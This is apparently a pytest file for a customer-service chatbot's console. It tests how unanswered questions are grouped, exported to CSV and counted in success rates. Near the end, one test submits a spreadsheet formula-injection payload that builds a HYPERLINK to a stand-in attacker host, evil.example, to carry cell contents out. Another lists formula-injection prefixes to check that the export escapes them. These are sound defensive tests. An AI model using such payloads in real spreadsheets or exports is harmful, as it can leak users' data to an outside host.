"""What was asked in vain and the success rates: what counts, how it is grouped, and what is exported."""

import csv
import html
import io
import re
import time
from collections.abc import Iterator
from contextlib import nullcontext
from dataclasses import dataclass
from pathlib import Path
from threading import Event

import pytest
from sqlalchemy import delete, select, update

from bot.assistant import Assistant
from tests.web.console.conftest import Person
from web.console.sheet import cell
from web.console.vain_groups import Vain, VainGroups
from web.meanings import JUST_WRITTEN, LATE_PAUSE, MeaningReader
from web.storage.conversations import Answer, ConversationStore, MessageKey
from web.storage.database import Database
from web.storage.meanings import MeaningStore
from web.storage.period import Span
from web.storage.ratings import Rating, RatingStore
from web.storage.retention import Retention
from web.storage.tables import CONVERSATIONS, TURNS
from web.storage.tables import MEANINGS as MEANINGS_TABLE
from web.storage.turns import TurnRecord
from web.storage.vain import Reason, VainStore

# Own questions, each row much the same in other words; the content answers none of them.
MEANINGS = (
    ("Kolik stojí letenka do Tokia?", "Jaká je cena letenky do Tokia?", "How much is a flight to Tokyo?"),
    (
        "Jak vyměním baterii v klíči?",
        "Baterka v klíči je vybitá, jak ji vyměním?",
        "How do I change the key's battery?",
    ),
    ("Kdy mám jet do servisu?", "Kdy je potřeba servisní prohlídka?"),
)


def rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@dataclass(frozen=True)
class Asked:
    """Messages in a database of their own, and who reads and groups them."""

    database: Database
    assistant: Assistant

    @property
    def meanings(self) -> MeaningStore:
        """What was made of them."""
        return MeaningStore(self.database, Retention(90), self.assistant.index.manifest.name)

    def ask(self, *messages: str, kind: str = "no_answer") -> list[str]:
        """Customers write this; the ids of the replies."""
        store = ConversationStore(self.database, Retention(90))

        def answer(message: str) -> Answer:
            return lambda state, ids: (TurnRecord(message, ids.message_id, kind, "cs"), state)

        return [store.take_turn(MessageKey(None), answer(message)) for message in messages]

    def read(self) -> None:
        """Read them, as the upkeep does."""
        MeaningReader(self.meanings, self.assistant.index.retriever, nullcontext(), Event()).read_all()

    def groups(self) -> Vain:
        """The groups of the last days."""
        now = int(time.time())
        return VainGroups(VainStore(self.database, Retention(90)), self.meanings).of(Span(now - 1000, now + 1000))

    def grouped(self) -> set[frozenset[str]]:
        """The texts of each group."""
        examples = [[text.message_id for text in one.texts] for one in self.groups().groups]
        return {frozenset(self.meanings.messages(ids).values()) for ids in examples}


@pytest.fixture
def asked(assistant: Assistant, tmp_path: Path) -> Iterator[Asked]:
    """Nothing yet, and the real encoder."""
    database = Database(f"sqlite:///{tmp_path}/asked.db")
    yield Asked(database, assistant)
    database.close()


def test_questions_that_mean_the_same_are_one_group_in_any_order_and_language(
    assistant: Assistant, tmp_path: Path
) -> None:
    messages = [text for meaning in MEANINGS for text in meaning]
    for number, order in enumerate((messages, messages[::-1], sorted(messages))):
        other = Asked(Database(f"sqlite:///{tmp_path}/{number}.db"), assistant)
        other.ask(*order)
        other.read()
        assert other.grouped() == {frozenset(meaning) for meaning in MEANINGS}
        other.database.close()


def test_what_nobody_has_read_yet_is_told_and_in_no_group(asked: Asked) -> None:
    asked.ask(*MEANINGS[0])
    assert (asked.groups().groups, asked.groups().waiting) == ((), 3)
    asked.read()
    assert (len(asked.groups().groups), asked.groups().waiting) == (1, 0)


def test_what_another_index_has_read_is_read_anew(asked: Asked) -> None:
    asked.ask(*MEANINGS[0])
    asked.read()
    with asked.database.writing() as connection:
        connection.execute(update(MEANINGS_TABLE).values(index_name="another", nearest="gone"))
    assert asked.groups().waiting == 3
    asked.read()
    (one,) = asked.groups().groups
    assert one.nearest != "gone"


def test_a_group_names_the_entry_that_is_probably_meant_most_often(asked: Asked) -> None:
    first, second, third = asked.ask(*MEANINGS[0])
    asked.read()
    made = {first: ("rare", 0.5), second: ("meant", 0.4), third: ("meant", 0.2)}
    with asked.database.writing() as connection:
        for message_id, (nearest, confidence) in made.items():
            own = MEANINGS_TABLE.c.message_id == message_id
            connection.execute(update(MEANINGS_TABLE).where(own).values(nearest=nearest, confidence=confidence))
    (one,) = asked.groups().groups
    assert (one.nearest, round(one.confidence, 4)) == ("meant", 0.2)


def test_the_words_that_are_most_frequent_follow_those_that_name_the_group(asked: Asked) -> None:
    (rare, often, named) = MEANINGS[0]
    for number, text in enumerate((rare, often, named), 1):
        asked.ask(*[text] * number)
    asked.read()
    (one,) = asked.groups().groups
    assert sorted(text.count for text in one.texts) == [1, 2, 3]
    assert one.texts[1].count > one.texts[2].count


def test_the_same_words_written_otherwise_are_one_text_and_each_message_counts(asked: Asked) -> None:
    asked.ask("Máte recept na svíčkovou?", "mate recept  na svickovou?", "Máte recept na svíčkovou?")
    asked.read()
    (one,) = asked.groups().groups
    assert (one.count, len(one.texts)) == (3, 1)


def test_a_message_with_two_reasons_counts_once(asked: Asked) -> None:
    (message_id,) = asked.ask("Kdo vyhrál hokej?")
    RatingStore(asked.database, Retention(90)).rate(Rating(message_id, "down"))
    asked.read()
    (one,) = asked.groups().groups
    assert (one.count, one.reasons) == (1, {Reason.DECLINED: 1, Reason.RATED_DOWN: 1})


def test_what_is_erased_or_rated_anew_is_gone_at_once(asked: Asked) -> None:
    erased, rated = asked.ask(*MEANINGS[0][:2], kind="answer")
    ratings = RatingStore(asked.database, Retention(90))
    for message_id in (erased, rated):
        ratings.rate(Rating(message_id, "down"))
    asked.read()
    assert asked.groups().count == 2
    with asked.database.writing() as connection:
        owner = select(TURNS.c.conversation_id).where(TURNS.c.message_id == erased)
        connection.execute(delete(CONVERSATIONS).where(CONVERSATIONS.c.id.in_(owner)))
        assert connection.execute(select(MEANINGS_TABLE.c.message_id)).scalars().all() == [rated]
    assert asked.groups().count == 1
    ratings.rate(Rating(rated, "up"))
    # An answer of confidence 0, as it is written here, is unsure whatever is thought of it.
    assert asked.groups().groups[0].reasons == {Reason.UNSURE: 1}


def test_an_empty_message_is_no_text_and_waits_for_nobody(asked: Asked) -> None:
    asked.ask("", "…")
    asked.read()
    assert (len(asked.groups().groups), asked.groups().waiting) == (1, 0)


def test_two_processes_do_not_read_the_same_at_once(asked: Asked) -> None:
    asked.ask(*MEANINGS[0])
    assert asked.meanings.claim(60)
    reader = MeaningReader(asked.meanings, asked.assistant.index.retriever, nullcontext(), Event())
    assert not reader.read_some()
    asked.meanings.release()
    assert reader.read_some()


def test_what_comes_late_is_read_by_the_next_look_that_goes_back_further(
    asked: Asked, monkeypatch: pytest.MonkeyPatch
) -> None:
    began, passed = int(time.time()), 0
    monkeypatch.setattr("web.meanings.time.time", lambda: began + passed)
    reader = MeaningReader(asked.meanings, asked.assistant.index.retriever, nullcontext(), Event())
    assert not reader.read_some()
    (message_id,) = asked.ask("Kdy mám jet do servisu?")
    with asked.database.writing() as connection:  # it was written slowly, or by a machine whose clock is behind
        late = update(TURNS).where(TURNS.c.message_id == message_id).values(created=began - 2 * JUST_WRITTEN)
        connection.execute(late)
    passed = LATE_PAUSE - 1
    assert not reader.read_some()
    passed = LATE_PAUSE
    assert reader.read_some()
    assert asked.groups().groups[0].reasons == {Reason.DECLINED: 1}


def test_a_reader_that_has_died_holds_up_nobody(asked: Asked) -> None:
    assert asked.meanings.claim(60)
    assert not asked.meanings.claim(60)
    assert asked.meanings.claim(0)


def read_all(database: Database, assistant: Assistant) -> None:
    """Read what was asked in vain, as the upkeep does."""
    Asked(database, assistant).read()


def test_each_reason_is_shown_with_the_nearest_entry(
    agent: Person, lead: Person, database: Database, assistant: Assistant
) -> None:
    agent.chat("Kolik stojí letenka do Tokia?")
    agent.rate(agent.chat("Jak zapnu roaming v Taycanu?"), "down")
    agent.hand_off(agent.chat("K čemu je bezpečnostní kód?", "děkuji"))
    agent.rate(agent.chat("Jak smažu účet Porsche ID?"), "up")
    read_all(database, assistant)
    page = lead.get("/console/vain").text
    for text in ("Kolik stojí letenka do Tokia?", "Jak zapnu roaming v Taycanu?", "K čemu je bezpečnostní kód?"):
        assert text in page
    assert "Jak smažu účet" not in page
    assert 'href="/console/entries/roaming-activate"' in page
    only = lead.get("/console/vain?reason=rated_down").text
    assert ("roaming v Taycanu" in only, "letenka" in only) == (True, False)
    found = {row["question"]: row for row in rows(lead.get("/console/vain.csv").text)}
    assert found["K čemu je bezpečnostní kód?"]["handed_off"] == "1"
    assert found["Jak zapnu roaming v Taycanu?"]["nearest_entry"] == "roaming-activate"
    assert float(found["Jak zapnu roaming v Taycanu?"]["confidence"]) > 0.5
    assert rows(lead.get("/console/vain.csv?from=2020-01-01&to=2020-01-02").text) == []


@pytest.mark.parametrize(
    "attack", ["=HYPERLINK(1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "\u00a0=1"]
)
def test_no_cell_is_computed_by_a_spreadsheet(attack: str) -> None:
    assert cell(attack) == f"'{attack}"


def test_other_cells_stay_as_they_are() -> None:
    assert [cell(value) for value in (-1, 0.5, "", "a=b", "2026-01-31")] == ["-1", "0.5", "", "a=b", "2026-01-31"]


def test_a_question_that_is_a_formula_is_exported_as_text(
    agent: Person, lead: Person, database: Database, assistant: Assistant
) -> None:
    agent.chat('=HYPERLINK("http://evil.example?x="&A1;"Kolik stojí letenka do Tokia?")')
    read_all(database, assistant)
    text = lead.get("/console/vain.csv").text
    assert text.startswith("\ufeff")
    (row,) = rows(text)
    assert row["question"].startswith("'=HYPERLINK")
    assert '"=' not in text


def test_rates_tell_what_was_answered_and_what_was_resolved(agent: Person, lead: Person) -> None:
    agent.chat("Jak zapnu roaming v Taycanu?", "děkuji", country="AT")  # resolved
    agent.rate(agent.chat("Jak zapnu roaming v Taycanu?", country="AT"), "down")  # answered
    agent.hand_off(agent.chat("Jak smažu účet Porsche ID?"))  # answered
    liked = agent.chat("Jak smažu účet Porsche ID?")  # resolved in spite of the hand-off
    agent.hand_off(liked)
    agent.rate(liked, "up")
    agent.chat("Kolik stojí letenka do Tokia?")  # neither
    agent.chat("dobrý den")  # no conversation
    found = {(row["by"], row["value"]): row for row in rows(lead.get("/console/shares.csv").text)}
    told = {
        key: tuple(int(row[name]) for name in ("conversations", "answered", "resolved")) for key, row in found.items()
    }
    assert told["language", "cs"] == (5, 4, 2)
    assert told["country", "AT"] == (2, 2, 1)
    assert told["model", "taycan"] == (2, 2, 1)
    assert told["entry", "roaming-activate"] == (2, 2, 1)
    assert sum(counts[0] for (by, _), counts in told.items() if by == "day") == 5
    page = html.unescape(lead.get("/console/shares").text)
    assert re.findall(r"<dd>(.*?)</dd>", page)[:3] == ["5", "80%", "40%"]
    assert len(re.findall(r"<svg[^>]*role=\"img\"[^>]*>\s*<title", page)) == 5
    assert "style=" not in page
    assert [name in page for name in ("Czech", "no entry", "not known")] == [True] * 3


def test_rates_of_days_without_conversations_are_told_as_none(lead: Person) -> None:
    assert "There is nothing of the kind." in lead.get("/console/shares?from=2020-01-01&to=2020-02-01").text
